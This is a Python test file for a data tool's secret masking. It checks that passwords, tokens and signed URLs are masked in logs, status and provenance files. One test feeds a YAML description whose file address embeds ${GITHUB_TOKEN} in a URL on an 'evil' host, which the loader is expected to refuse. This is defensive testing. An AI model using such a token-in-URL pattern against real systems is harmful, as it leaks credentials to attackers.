"""No password or key gets into what a run writes and says."""

import json
import logging
import shlex
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app import options
from app.data.reading.paths import absolute, expand
from app.data.reading.yaml_description import from_yaml
from app.errors import InputError
from app.main import _Plain, main
from app.running.masking import command_line, is_secret_name, masked
from app.running.run_folder import RunFolder
from app.running.status import Status, read_status

SECRET = "s3cr3t"
HOLDING = [
    f"https://me:{SECRET}@host/a.zarr",
    f"--data=https://{SECRET}@host/a.zarr",
    f"s3://b/x.zarr?X-Amz-Signature={SECRET}&x=1",
    f"--data=https://host/a.zarr?a=1&token={SECRET}",
    f"CDSAPI_KEY={SECRET}",
    f"AWS_SESSION_TOKEN={SECRET} more",
    f"db_password = '{SECRET} {SECRET}'",
    f"Authorization: Bearer {SECRET}",
]


@pytest.mark.parametrize("text", HOLDING)
def test_secrets_are_masked(text: str) -> None:
    assert SECRET not in masked(text)
    assert "***" in masked(text)


def test_what_is_no_secret_stays() -> None:
    for name in options.FLAGS_BY_NAME:
        assert masked(f"--{name}=value") == f"--{name}=value"
    for text in ["monkey=3", "a key: missing", "s3://bucket/a.zarr", "x@850 = 3", "a.nc?x=1&y=2"]:
        assert masked(text) == text
    assert not any(map(is_secret_name, ("DATA_ROOT", "HOME", "MONKEY", "SCRATCH")))


@given(st.lists(st.text(st.characters(blacklist_categories=["Cs"]), max_size=12), max_size=4))
def test_a_command_without_secrets_is_kept_such_that_it_can_be_typed_again(
    words: list[str],
) -> None:
    plain = [word for word in words if masked(word) == word]
    assert shlex.split(command_line(plain)) == plain


def test_provenance_holds_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CDSAPI_KEY", SECRET)
    monkeypatch.setattr(sys, "argv", ["finescale", "train", *HOLDING])
    RunFolder(tmp_path).write_provenance({})
    text = (tmp_path / "provenance.json").read_text()
    assert SECRET not in text
    assert json.loads(text)["command"].startswith("finescale train 'https://***@host/a.zarr'")


def test_status_and_log_hold_none(tmp_path: Path) -> None:
    Status(tmp_path).end("failed", error=f"cannot read https://me:{SECRET}@host/a.zarr")
    assert read_status(tmp_path)["error"] == "cannot read https://***@host/a.zarr"  # type: ignore[index]
    record = logging.LogRecord("a", logging.INFO, "", 1, "opened %s", (HOLDING[0],), None)
    assert _Plain().format(record) == "opened https://***@host/a.zarr"


def test_addresses_with_a_password_are_refused_as_the_run_would_keep_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for use in (lambda a: absolute(a, tmp_path), lambda a: expand([a])):
        with pytest.raises(InputError, match=r"^https://\*\*\*@host/a.zarr: an address with"):
            use(HOLDING[0])
    run = tmp_path / "run"
    code = main(["train", f"--data={HOLDING[0]}", "--variable=t", f"--save_path={run}"])
    assert code == 2
    assert SECRET not in capsys.readouterr().err
    assert not run.exists()


def test_a_data_description_is_given_no_secret_of_the_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
    path = tmp_path / "data.yml"
    path.write_text(
        "predictand: {files: 'https://evil/${GITHUB_TOKEN}.nc', variables: [t]}\n"
        "splits: {train: [2001, 2002], validation: 2003, test: 2004}\n"
    )
    with pytest.raises(InputError, match=r"\$\{GITHUB_TOKEN\} looks like a secret"):
        from_yaml(str(path), str(tmp_path))
